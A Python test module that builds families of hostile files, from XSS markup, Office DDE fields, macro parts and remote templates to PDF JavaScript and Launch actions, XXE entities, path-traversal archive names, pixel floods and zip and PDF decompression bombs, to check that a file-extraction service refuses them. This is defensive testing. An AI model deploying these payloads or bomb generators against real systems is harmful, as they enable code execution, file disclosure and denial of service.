"""Two hundred files nobody should take: made here, by family, each with the name it comes under.

`python -m tests.content.hostile` offers all of them and prints what became of them.
"""

import asyncio
import io
import json
import struct
import subprocess
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from content import extract
from content.extract import Refused
from tests.content import papers

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ\x90\x00" + bytes(600)
OFFICE = {"docx": "word", "pptx": "ppt", "xlsx": "xl"}
CLEAN: dict[str, Callable[[], bytes]] = {
    "docx": papers.a_docx,
    "pptx": papers.a_pptx,
    "xlsx": papers.a_xlsx,
}


@dataclass(frozen=True)
class Hostile:
    """A file, what is wrong with it, and how it is offered: read, package or rows."""

    family: str
    what: str
    name: str
    data: bytes
    road: str = "read"


@cache
def family(name: str) -> tuple[Hostile, ...]:
    """The files of one family, in a fixed order; making them takes seconds, so only once."""
    return tuple(FAMILIES[name]())


def everything() -> list[Hostile]:
    """All of them, in a fixed order."""
    return [each for name in FAMILIES for each in family(name)]


async def offered(each: Hostile) -> object:
    """What the product says to it."""
    if each.road == "package":
        return await extract.package_of(each.data)
    if each.road == "rows":
        return await extract.rows_of(each.data, each.name)
    return await extract.text_of(each.data, each.name)


def _renamed() -> Iterator[Hostile]:
    """Something else under a harmless extension."""
    for number, mark in enumerate(extract.FOREIGN):
        for suffix in ("txt", "md"):
            data = b"\r\n " * (number % 2) + mark + b" and more of it" * 30
            yield Hostile("renamed", f"{mark[:6]!r}", f"a.{suffix}", data)
    for suffix in ("docx", "pptx", "xlsx", "pdf", "png", "jpg", "mp4", "html"):
        yield Hostile("renamed", "program", f"a.{suffix}", PROGRAM)
    for suffix in ("docx", "pptx", "xlsx"):
        yield Hostile("renamed", "another office file", f"a.{suffix}", _clean(_other(suffix)))
        yield Hostile("renamed", "behind a password", f"a.{suffix}", OLE)


@cache
def _clean(suffix: str) -> bytes:
    return CLEAN[suffix]()


def _other(suffix: str) -> str:
    return {"docx": "pptx", "pptx": "xlsx", "xlsx": "docx"}[suffix]


def _texts() -> Iterator[Hostile]:
    yield Hostile("text", "empty", "a.txt", b" \r\n\t ")
    yield Hostile("text", "NUL inside", "a.txt", b"\x00".join([b"abcdefgh"] * 10))
    yield Hostile("text", "no encoding", "a.txt", b"\xff\xfe\x81\x20" * 60)
    yield Hostile("text", "too large", "a.txt", b"a" * (extract.LARGEST + 1))
    yield Hostile("text", "too much of it", "a.md", "长".encode() * 200_001)
    yield Hostile("text", "a package appended", "a.txt", papers.FIRST.encode() + papers.a_zip({}))


ACTIVE_MARKUP = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT src=//evil.example></SCRIPT>",
    "handler": "<p onclick='alert(1)'>x</p>",
    "handler without quotes": "<img src=x onerror=alert(1)>",
    "handler on body": "<body onload=alert(1)>",
    "javascript address": "<a href='javascript:alert(1)'>x</a>",
    "javascript with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript as entity": "<a href='&#106;avascript:alert(1)'>x</a>",
    "vbscript address": "<a href='vbscript:msgbox(1)'>x</a>",
    "data address": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "file address": "<img src='file:///etc/passwd'>",
    "iframe": "<iframe src='https://evil.example'></iframe>",
    "object": "<object data='x.swf'></object>",
    "embed": "<embed src='x.swf'>",
    "svg": "<svg><animate onbegin=alert(1)></svg>",
    "math": "<math><mtext></mtext></math>",
    "form": "<form action='https://evil.example'><input name=p></form>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "base": "<base href='https://evil.example/'>",
    "stylesheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "expression": "<p style='width:expression(alert(1))'>x</p>",
    "style address": "<p style='background:url(javascript:alert(1))'>x</p>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "very deep": "<div>" * 5_000,
}


def _pages() -> Iterator[Hostile]:
    for what, markup in ACTIVE_MARKUP.items():
        page = f"<html><body><p>{papers.FIRST}</p>{markup}</body></html>"
        yield Hostile("page", what, "a.html", page.encode())


def _office() -> Iterator[Hostile]:
    for suffix, folder in OFFICE.items():
        for what, data in _evil_twins(suffix, folder):
            yield Hostile("office", what, f"a.{suffix}", data)
    field = b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
    yield Hostile("office", "DDE field", "a.docx", _inside("docx", "word/document.xml", field))
    field = field.replace(b"DDEAUTO", b"INCLUDETEXT")
    yield Hostile("office", "include field", "a.docx", _inside("docx", "word/document.xml", field))
    link = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    yield Hostile("office", "DDE link", "a.xlsx", _with("xlsx", {"xl/x.xml": link}))
    macro = b"<xm:macrosheet/>"
    yield Hostile("office", "macro sheet", "a.xlsx", _with("xlsx", {"xl/macrosheets/s.xml": macro}))
    runs = b'<a:hlinkClick action="ppaction://program"/>'
    yield Hostile("office", "runs a program", "a.pptx", _with("pptx", {"ppt/slides/x.xml": runs}))


ENTITY = b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"


def _evil_twins(suffix: str, folder: str) -> Iterator[tuple[str, bytes]]:
    clean = _clean(suffix)
    yield "macro project", _with(suffix, {f"{folder}/vbaProject.bin": OLE})
    yield "macro type", _types(suffix, b"macroEnabled.main+xml")
    yield "embedded object", _with(suffix, {f"{folder}/embeddings/oleObject1.bin": OLE})
    yield "embedded workbook", _with(suffix, {f"{folder}/embeddings/b.xlsx": papers.a_xlsx()})
    yield "ActiveX", _with(suffix, {f"{folder}/activeX/activeX1.xml": b"<ax/>"})
    yield "program inside", _with(suffix, {f"{folder}/media/setup.exe": PROGRAM})
    yield "package inside", _with(suffix, {f"{folder}/media/more.zip": papers.a_zip({"a": b"a"})})
    for what, kind, target in (
        ("remote template", "attachedTemplate", "https://evil.example/t.dotm"),
        ("remote picture", "image", "https://evil.example/track.png"),
        ("remote frame", "frame", "https://evil.example/f.html"),
        ("remote object", "oleObject", "\\\\evil.example\\share\\o"),
        ("file link", "hyperlink", "file:///etc/passwd"),
        ("script link", "hyperlink", "javascript:alert(1)"),
        ("share link", "hyperlink", "\\\\evil.example\\share"),
    ):
        yield what, _with(suffix, {f"{folder}/_rels/evil.xml.rels": _relation(kind, target)})
    yield "bomb", _with(suffix, {f"{folder}/media/a.bmp": bytes(40 << 20)})
    yield "many small bombs", _with(suffix, {f"{folder}/m/{n}": bytes(1 << 20) for n in range(8)})
    yield "too many parts", _with(suffix, {f"{folder}/p/{n}.xml": b"" for n in range(2_001)})
    yield "path out", _with(suffix, {"../../etc/cron.d/x": b"x"})
    yield "absolute path", _with(suffix, {"/etc/passwd": b"x"})
    yield "backslash path", _with(suffix, {"..\\..\\x.xml": b"x"})
    yield "drive path", _with(suffix, {"c:/x.xml": b"x"})
    yield "link out", papers.with_link(clean)
    yield "part twice", papers.with_double(clean, "[Content_Types].xml")
    yield (
        "entity",
        _with(
            suffix,
            {
                f"{folder}/e.xml": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
            },
        ),
    )
    yield "laughs", _with(suffix, {f"{folder}/l.xml": papers.laughs()})
    yield "something before", PROGRAM + clean
    yield "something behind", clean + b"%PDF-1.7 " + PROGRAM
    yield "cut short", clean[: len(clean) // 2]
    yield "locked part", papers.locked(clean)


def _with(suffix: str, parts: dict[str, bytes]) -> bytes:
    return papers.with_parts(_clean(suffix), parts)


def _types(suffix: str, word: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(_clean(suffix))) as package:
        types = package.read("[Content_Types].xml").replace(b"main+xml", word)
    return papers.with_parts(_clean(suffix), {"[Content_Types].xml": types})


def _inside(suffix: str, part: str, markup: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(_clean(suffix))) as package:
        told = package.read(part).replace(b"<w:body>", b"<w:body>" + markup)
    return papers.with_parts(_clean(suffix), {part: told})


def _relation(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


ACTIVE_CATALOGS = {
    "script on opening": "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "named scripts": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>",
    "launch": "/OpenAction << /S /Launch /F (cmd.exe) >>",
    "launch on Windows": "/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>",
    "additional action": "/AA << /WC << /S /JavaScript /JS (1) >> >>",
    "form of XML": "/AcroForm << /XFA (x) >>",
    "submits a form": "/OpenAction << /S /SubmitForm /F (https://evil.example) >>",
    "imports data": "/OpenAction << /S /ImportData /F (x.fdf) >>",
    "opens another file": "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>",
    "opens what is embedded": "/OpenAction << /S /GoToE >>",
    "rendition": "/OpenAction << /S /Rendition >>",
    "rich media": "/X << /Type /Annot /Subtype /RichMedia >>",
    "film": "/X << /Subtype /Movie >>",
    "sound": "/X << /S /Sound >>",
    "solid": "/X << /Subtype /3D >>",
    "attached": "/X << /Subtype /FileAttachment >>",
    "file of a file": "/X << /Type /EmbeddedFile >>",
    "associated": "/AF [<< /Type /Filespec >>]",
    "script address": "/X << /S /URI /URI (javascript:alert\\(1\\)) >>",
    "file address": "/X << /S /URI /URI (file:///etc/passwd) >>",
    "share address": "/X << /S /URI /URI (\\\\\\\\evil\\\\share) >>",
    "name in hexadecimal": "/OpenAction << /S /Java#53cript /J#53 (1) >>",
}


def _pdfs() -> Iterator[Hostile]:
    for what, catalog in ACTIVE_CATALOGS.items():
        yield Hostile("pdf", what, "a.pdf", papers.a_pdf(catalog=catalog))
    clean = papers.a_pdf()
    yield Hostile("pdf", "attachment", "a.pdf", papers.a_pdf_with_attachment())
    yield Hostile("pdf", "password", "a.pdf", papers.an_encrypted_pdf())
    yield Hostile("pdf", "nothing to read", "a.pdf", papers.a_scanned_pdf())
    yield Hostile("pdf", "package behind", "a.pdf", clean + papers.a_zip({"a.js": b"x"}))
    yield Hostile("pdf", "page before", "a.pdf", b"%PDF-1.7\n<html><script>" + clean[9:])
    yield Hostile("pdf", "program behind", "a.pdf", clean + PROGRAM)
    yield Hostile("pdf", "cut to nothing", "a.pdf", b"%PDF-1.7\n" + bytes(900))
    yield Hostile("pdf", "bomb", "a.pdf", _pdf_bomb())
    yield Hostile("pdf", "pages of pages", "a.pdf", papers.a_pdf(catalog="/X " + "[" * 3_000))


def _pdf_bomb() -> bytes:
    """A page whose content unpacks to a gigabyte."""
    packed = blanks(1_024)
    head = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
    parts = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
             head + packed + b"\nendstream"]  # fmt: skip
    return papers.assembled(parts)


def blanks(mebibytes: int) -> bytes:
    """So many mebibytes of blanks, packed: one is packed so that it may stand again and again."""
    piece, checksum = b" " * (1 << 20), 1
    packer = zlib.compressobj(9, wbits=-15)
    packed = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(mebibytes):
        checksum = zlib.adler32(piece, checksum)
    return b"\x78\xda" + packed * mebibytes + packer.flush() + struct.pack(">I", checksum)


def _pictures() -> Iterator[Hostile]:
    png, jpg = papers.a_picture("png"), papers.a_picture("jpg")
    for what, width, height in (
        ("flood", 50_000, 50_000), ("long flood", 4_000_000, 1), ("wide", 1, 30_000),
        ("nothing", 0, 10), ("largest", 0x7FFFFFFF, 0x7FFFFFFF), ("just too many", 8_000, 8_000),
    ):  # fmt: skip
        yield Hostile("picture", what, "a.png", _png_of(width, height))
    yield Hostile("picture", "flood", "a.jpg", _jpg_of(jpg, 60_000, 60_000))
    yield Hostile("picture", "just too many", "a.jpg", _jpg_of(jpg, 9_000, 9_000))
    yield Hostile("picture", "package behind", "a.png", png + papers.a_zip({"a.js": b"x"}))
    yield Hostile("picture", "package behind", "a.jpg", jpg + papers.a_zip({"a.js": b"x"}))
    yield Hostile("picture", "script in it", "a.png", _chunk(png, b"<script>alert(1)</script>"))
    yield Hostile("picture", "page in it", "a.jpg", jpg[:2] + _comment(b"<html><body>") + jpg[2:])
    yield Hostile("picture", "program text", "a.jpg", jpg[:2] + _comment(b"<?php eval()") + jpg[2:])
    yield Hostile("picture", "PDF in it", "a.png", _chunk(png, b"%PDF-1.7 1 0 obj"))
    yield Hostile("picture", "drawing", "a.png", b"<svg onload='alert(1)'/>")
    yield Hostile("picture", "other kind", "a.png", jpg)
    yield Hostile("picture", "other kind", "a.jpg", png)
    yield Hostile("picture", "GIF", "a.png", b"GIF89a" + bytes(300))
    yield Hostile("picture", "cut short", "a.png", png[:60])
    yield Hostile("picture", "cut short", "a.jpg", jpg[:40])
    yield Hostile("picture", "wrong sums", "a.png", png[:40] + bytes(20) + png[60:])
    yield Hostile("picture", "no size", "a.jpg", b"\xff\xd8\xff\xe0" + b"\x00\x02" * 400)


def _png_of(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(bytes(1 << 16), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


def _jpg_of(data: bytes, width: int, height: int) -> bytes:
    at = data.index(b"\xff\xc0")
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def _chunk(data: bytes, text: bytes) -> bytes:
    whole = b"tEXtnote\x00" + text
    made = struct.pack(">I", len(whole) - 4) + whole + struct.pack(">I", zlib.crc32(whole))
    return data[:33] + made + data[33:]


def _comment(text: bytes) -> bytes:
    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text


def _films() -> Iterator[Hostile]:
    film = papers.a_film()
    yield Hostile("film", "package behind", "a.mp4", film + papers.a_zip({"a.js": b"x"}))
    yield Hostile("film", "only its first box", "a.mp4", film[:24])
    yield Hostile("film", "box past the end", "a.mp4", film[:24] + b"\x7f\xff\xff\xffmoov")
    yield Hostile("film", "unknown box", "a.mp4", film + b"\x00\x00\x00\x10evil" + bytes(8))
    yield Hostile("film", "page behind", "a.mp4", film + b"<html><script>alert(1)</script>")
    yield Hostile("film", "odd brand", "a.mp4", b"\x00\x00\x00\x18ftypevil" + film[12:])


BAD_NAMES = (
    "../a.txt", "/a.txt", "x/../../a.txt", "c:/a.txt", "a.txt:stream", "con.txt",
    "x/NUL", "lpt1.txt", "a\u202egpj.exe", "a\u200b.txt", "a.txt.", "a /b.txt",
)  # fmt: skip


def _packages() -> Iterator[Hostile]:
    listed = {"清单.csv": "文件,类型,标题\na.txt,话术,标题\n".encode(), "a.txt": b"text"}

    def offer(what: str, data: bytes) -> Hostile:
        return Hostile("package", what, "a.zip", data, "package")

    yield offer("no list", papers.a_zip({"a.txt": b"text"}))
    yield offer("two lists", papers.a_zip({**listed, "x/manifest.csv": b"a"}))
    yield offer("empty list", papers.a_zip({"清单.csv": b"", "a.txt": b"text"}))
    for name in ("b.zip", "b.rar", "b.7z", "b.tar", "b.tgz", "x/b.gz", "b.jar", "B.ZIP"):
        yield offer(f"nested {name}", papers.a_zip({**listed, name: papers.a_zip({"a": b"a"})}))
    for name in BAD_NAMES:
        yield offer(f"name {name!r}", papers.a_zip({**listed, name: b"text"}))
    yield offer("bomb", papers.a_zip({**listed, "b.txt": bytes(60 << 20)}))
    yield offer(
        "larger than may be", papers.a_zip({**listed, "b.bin": papers.noise(21 << 20)})[: 25 << 20]
    )
    yield offer("too many", papers.a_zip({**listed, **{f"{n}.txt": b"x" for n in range(2_100)}}))
    yield offer("more than 200", papers.a_zip({**listed, **{f"{n}.txt": b"x" for n in range(201)}}))
    yield offer("link out", papers.with_link(papers.a_zip(listed)))
    yield offer("name twice", papers.with_double(papers.a_zip(listed), "a.txt"))
    yield offer("locked", papers.locked(papers.a_zip(listed)))
    yield offer("something before", PROGRAM + papers.a_zip(listed))
    yield offer("something behind", papers.a_zip(listed) + PROGRAM)
    yield offer("cut short", papers.a_zip(listed)[:90])
    yield offer("program", PROGRAM)


def _lists() -> Iterator[Hostile]:
    def offer(what: str, name: str, data: bytes) -> Hostile:
        return Hostile("list", what, name, data, "rows")

    yield offer("program", "a.csv", PROGRAM)
    yield offer("page", "a.csv", b"<html><script>1</script>")
    yield offer("NUL", "a.csv", b"a,b\n\x00,1\n")
    yield offer("too many rows", "a.csv", b"a\n" + b"1\n" * 5_002)
    yield offer("huge cell", "a.csv", b'a\n"' + b"x" * 200_000 + b'"\n')
    yield offer("macros", "a.xlsx", _with("xlsx", {"xl/vbaProject.bin": OLE}))
    yield offer("bomb", "a.xlsx", _with("xlsx", {"xl/media/a.bmp": bytes(40 << 20)}))
    yield offer("old workbook", "a.xls", OLE)
    yield offer("another kind", "a.json", b"[]")


NO_KIND = "svg,exe,docm,dotm,xlsm,xlsb,pptm,ppsm,doc,xls,ppt,rtf,js,lnk,iso,hta,gif,webp,zip,eml,"


def _kinds() -> Iterator[Hostile]:
    for suffix in NO_KIND.split(","):
        name = f"a.{suffix}" if suffix else "a"
        yield Hostile("kind", suffix or "no extension", name, b"PK\x03\x04" + bytes(300))


FAMILIES = {
    "renamed": _renamed,
    "text": _texts,
    "page": _pages,
    "office": _office,
    "pdf": _pdfs,
    "picture": _pictures,
    "film": _films,
    "package": _packages,
    "list": _lists,
    "kind": _kinds,
}


def _peak_mib(each: Hostile) -> float:
    """The most memory a child held that was given this file; 0 where its limits ended it."""
    kind = extract.suffix_of(each.name)
    kind = {"package": "zip", "rows": f"rows:{kind}"}.get(each.road, kind)
    child = subprocess.run(
        extract.child_command(kind), input=each.data, capture_output=True, env={}, check=False
    )
    return json.loads(child.stdout)["peak_kib"] / 1024 if child.returncode == 0 else 0.0


async def _all() -> None:
    found: dict[str, list[float]] = {}
    taken = []
    for each in everything():
        began = time.perf_counter()
        answer = await offered(each)
        found.setdefault(each.family, []).append(time.perf_counter() - began)
        if not isinstance(answer, Refused):
            taken.append(each)
    for family, seconds in found.items():
        print(f"{family:10} {len(seconds):4} files  slowest {max(seconds):6.2f} s")  # noqa: T201
    peak = max(filter(None, map(_peak_mib, everything())))
    total = sum(len(seconds) for seconds in found.values())
    print(f"{total} files, {len(taken)} taken, largest child {peak:.0f} MiB")  # noqa: T201
    for each in taken:
        print(f"taken: {each.family} {each.what} {each.name}")  # noqa: T201


if __name__ == "__main__":
    asyncio.run(_all())
